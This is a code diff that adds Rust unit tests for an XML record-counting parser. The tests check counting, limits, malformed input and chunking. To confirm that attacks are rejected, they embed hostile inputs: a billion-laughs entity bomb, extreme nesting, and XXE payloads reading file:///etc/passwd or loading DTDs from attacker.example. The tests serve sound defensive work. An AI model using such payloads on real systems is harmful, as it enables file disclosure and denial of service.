@@ -346,3 +346,279 @@ impl<R: BufRead> Read for TokenLimit<R> {
         Ok(n)
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use std::time::{Duration, Instant};
+
+    use super::super::testing::{
+        assert_interrupted_reads_are_retried, assert_reader_error_passes_through, count,
+        count_chunked, count_endless, max_record, outcome,
+    };
+    use super::super::{CountError, count_rows};
+    use crate::engine::spec::{Format, Limits, ParseSpec};
+
+    fn xml(record: &str) -> ParseSpec {
+        ParseSpec {
+            record_element: Some(record.to_owned()),
+            ..ParseSpec::new(Format::Xml)
+        }
+    }
+
+    /// Counts `input`, checking every small chunking agrees.
+    fn records(input: &str, record: &str) -> u64 {
+        let spec = xml(record);
+        let whole = count(input.as_bytes(), &spec).unwrap();
+        assert_eq!((whole.rows, whole.header.as_ref()), (whole.records, None));
+        for capacity in 1..16 {
+            assert_eq!(
+                count_chunked(input.as_bytes(), capacity, &spec, &Limits::default()),
+                Ok(whole.clone())
+            );
+        }
+        whole.records
+    }
+
+    fn rejection(input: &[u8], spec: &ParseSpec, limits: &Limits) -> (u64, String) {
+        match count_rows(input, spec, limits) {
+            Err(CountError::Malformed {
+                format: Format::Xml,
+                record,
+                reason,
+            }) => (record, reason),
+            other => panic!("expected a rejection, got {other:?}"),
+        }
+    }
+
+    #[test]
+    fn records_are_counted_at_any_depth_including_nested_ones() {
+        let doc = r#"<?xml version="1.0"?>
+            <feed><batch><order id="1"><line/></order><order id="2"/></batch>
+            <order><order>nested</order></order><orders/><x-order/></feed>"#;
+        assert_eq!(records(doc, "order"), 4);
+        assert_eq!(records(doc, "line"), 1);
+        assert_eq!(records(doc, "missing"), 0);
+    }
+
+    #[test]
+    fn names_are_matched_by_local_name_unless_the_rule_gives_a_prefix() {
+        let doc = r#"<ns:feed xmlns:ns="urn:x" xmlns:o="urn:y"><ns:order/><o:order></o:order><order/></ns:feed>"#;
+        assert_eq!(records(doc, "order"), 3);
+        assert_eq!(records(doc, "ns:order"), 1);
+    }
+
+    #[test]
+    fn a_bom_comments_cdata_and_a_plain_doctype_are_fine() {
+        let doc = "\u{feff}<?xml version=\"1.0\"?><!DOCTYPE feed [<!ELEMENT feed ANY>]>\
+                   <!-- <order/> --><feed><![CDATA[<order/>]]>&amp;<order/></feed>\n";
+        assert_eq!(records(doc, "order"), 1);
+    }
+
+    #[test]
+    fn an_empty_document_has_no_records() {
+        assert_eq!(records("", "order"), 0);
+        assert_eq!(records("  \n", "order"), 0);
+    }
+
+    #[test]
+    fn mismatched_unmatched_and_unclosed_tags_are_rejected() {
+        let (record, reason) =
+            rejection(b"<feed><order></feed>", &xml("order"), &Limits::default());
+        assert_eq!(record, 1);
+        assert!(
+            reason.contains("expected `</order>`, but `</feed>` was found"),
+            "{reason}"
+        );
+        assert!(reason.contains("at byte 13"), "{reason}");
+        let (_, reason) = rejection(b"<feed></feed></order>", &xml("order"), &Limits::default());
+        assert!(reason.contains("</order>"), "{reason}");
+        let (record, reason) =
+            rejection(b"<feed><order/><order>", &xml("order"), &Limits::default());
+        assert_eq!(record, 2);
+        assert_eq!(
+            reason,
+            "the file ends inside element <order> (2 element(s) still open)"
+        );
+        let (_, reason) = rejection(b"<feed><order", &xml("order"), &Limits::default());
+        assert!(reason.contains("at byte 6"), "{reason}");
+    }
+
+    #[test]
+    fn nesting_deeper_than_the_limit_is_rejected() {
+        let limits = Limits {
+            max_xml_depth: 3,
+            ..Limits::default()
+        };
+        let ok = count_rows(&b"<a><b><c/></b></a>"[..], &xml("c"), &limits).unwrap();
+        assert_eq!(ok.records, 1);
+        for doc in [
+            &b"<a><b><c><d/></c></b></a>"[..],
+            b"<a><b><c><d></d></c></b></a>",
+        ] {
+            let (_, reason) = rejection(doc, &xml("c"), &limits);
+            assert!(
+                reason.starts_with("elements are nested deeper than 3 levels"),
+                "{reason}"
+            );
+        }
+        // A hostile depth is stopped at the limit, quickly.
+        let deep = "<a>".repeat(1_000_000);
+        let (_, reason) = rejection(deep.as_bytes(), &xml("a"), &Limits::default());
+        assert!(reason.contains("deeper than 256"), "{reason}");
+    }
+
+    #[test]
+    fn billion_laughs_is_rejected_quickly_without_expanding_anything() {
+        let mut doc =
+            String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
+        for i in 1..=9 {
+            let previous = if i == 1 {
+                "lol".to_owned()
+            } else {
+                format!("lol{}", i - 1)
+            };
+            doc += &format!(
+                "<!ENTITY lol{i} \"{}\">\n",
+                format!("&{previous};").repeat(10)
+            );
+        }
+        doc += "]>\n<lolz>&lol9;</lolz>\n";
+        let started = Instant::now();
+        let (_, reason) = rejection(doc.as_bytes(), &xml("lolz"), &Limits::default());
+        assert!(started.elapsed() < Duration::from_secs(5));
+        assert!(
+            reason.starts_with("the DOCTYPE declares entities"),
+            "{reason}"
+        );
+    }
+
+    #[test]
+    fn external_entities_and_external_dtds_are_rejected() {
+        let docs: [&[u8]; 4] = [
+            b"<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
+            b"<!DOCTYPE foo SYSTEM \"http://attacker.example/evil.dtd\"><foo/>",
+            b"<!DOCTYPE foo PUBLIC \"-//X//Y\" \"http://attacker.example/x.dtd\"><foo/>",
+            b"<!doctype foo [<!entity % p SYSTEM \"http://attacker.example/p\"> %p;]><foo/>",
+        ];
+        for doc in docs {
+            let (_, reason) = rejection(doc, &xml("foo"), &Limits::default());
+            assert!(reason.starts_with("the DOCTYPE "), "{reason}");
+            assert!(reason.contains("not accepted"), "{reason}");
+        }
+        // The words only count as keywords, not inside names.
+        assert_eq!(records("<!DOCTYPE SYSTEMS><SYSTEMS/>", "SYSTEMS"), 1);
+    }
+
+    #[test]
+    fn a_token_longer_than_the_limit_is_rejected_without_buffering_it() {
+        let limits = max_record(1024 * 1024);
+        for (prefix, byte) in [
+            (&b"<feed><order/>"[..], b'x'),                 // a text node
+            (b"<feed><order/><!-- ", b'-'),                 // a comment
+            (b"<feed><order/><order a=\"", b'v'),           // an attribute
+            (b"<!DOCTYPE feed [<!ELEMENT feed ANY>", b' '), // the DOCTYPE
+        ] {
+            let (result, read) = count_endless(prefix, byte, 1 << 40, &xml("order"), &limits);
+            match result {
+                Err(CountError::Malformed { reason, .. }) => {
+                    assert!(
+                        reason.starts_with("an XML token longer than 1048576 bytes"),
+                        "{reason}"
+                    )
+                }
+                other => panic!("expected a long token, got {other:?}"),
+            }
+            assert!(read <= 1024 * 1024 + 16 * 1024, "read {read} bytes");
+        }
+    }
+
+    #[test]
+    fn a_token_at_the_limit_is_accepted() {
+        let limits = max_record(8);
+        // `<a>` 3, `1234567` 7, `<order/>` 8, `</a>` 4 bytes.
+        let ok = count_rows(&b"<a>12345678<order/></a>"[..], &xml("order"), &limits).unwrap();
+        assert_eq!(ok.records, 1);
+        let (_, reason) = rejection(b"<a>123456789<order/></a>", &xml("order"), &limits);
+        assert!(
+            reason.starts_with("an XML token longer than 8 bytes"),
+            "{reason}"
+        );
+        let (_, reason) = rejection(b"<a><order />123</a>", &xml("order"), &limits);
+        assert!(
+            reason.starts_with("an XML token longer than 8 bytes"),
+            "{reason}"
+        );
+    }
+
+    #[test]
+    fn open_element_names_are_bounded_in_total() {
+        let limits = Limits {
+            max_record_bytes: 16,
+            ..Limits::default()
+        };
+        let (_, reason) = rejection(b"<abcdef><abcdef><abcdef>", &xml("x"), &limits);
+        assert!(
+            reason.starts_with("the names of the open elements are longer than 16 bytes"),
+            "{reason}"
+        );
+    }
+
+    #[test]
+    fn invalid_utf8_is_rejected() {
+        let (_, reason) = rejection(b"<feed>caf\xE9</feed>", &xml("feed"), &Limits::default());
+        assert!(reason.contains("at byte"), "{reason}");
+    }
+
+    #[test]
+    fn a_rule_without_record_element_is_misconfigured() {
+        for record_element in [None, Some(String::new()), Some("  ".to_owned())] {
+            let spec = ParseSpec {
+                record_element,
+                ..ParseSpec::new(Format::Xml)
+            };
+            let error = count(b"<a/>", &spec).unwrap_err();
+            assert!(matches!(
+                error,
+                CountError::Misconfigured {
+                    format: Format::Xml,
+                    ..
+                }
+            ));
+            assert_eq!(
+                error.to_string(),
+                "cannot count xml records: the rule names no record element"
+            );
+        }
+    }
+
+    #[test]
+    fn the_readers_error_comes_back_unchanged_and_interruptions_are_retried() {
+        assert_reader_error_passes_through(b"<feed><order/><order>", &xml("order"));
+        assert_reader_error_passes_through(b"", &xml("order"));
+        assert_interrupted_reads_are_retried(
+            b"<feed><order/><order>1</order></feed>",
+            &xml("order"),
+        );
+    }
+
+    #[test]
+    fn the_same_error_whatever_the_chunking() {
+        let limits = max_record(12);
+        for doc in [
+            &b"<feed><order></feed>"[..],
+            b"<feed><order/><order>",
+            b"<a>0123456789abc</a>",
+            b"<!DOCTYPE a [<!ENTITY x \"y\">]><a/>",
+        ] {
+            let whole = outcome(count_rows(doc, &xml("order"), &limits));
+            assert!(whole.is_err());
+            for capacity in 1..16 {
+                assert_eq!(
+                    count_chunked(doc, capacity, &xml("order"), &limits),
+                    whole,
+                    "{capacity}"
+                );
+            }
+        }
+    }
+}
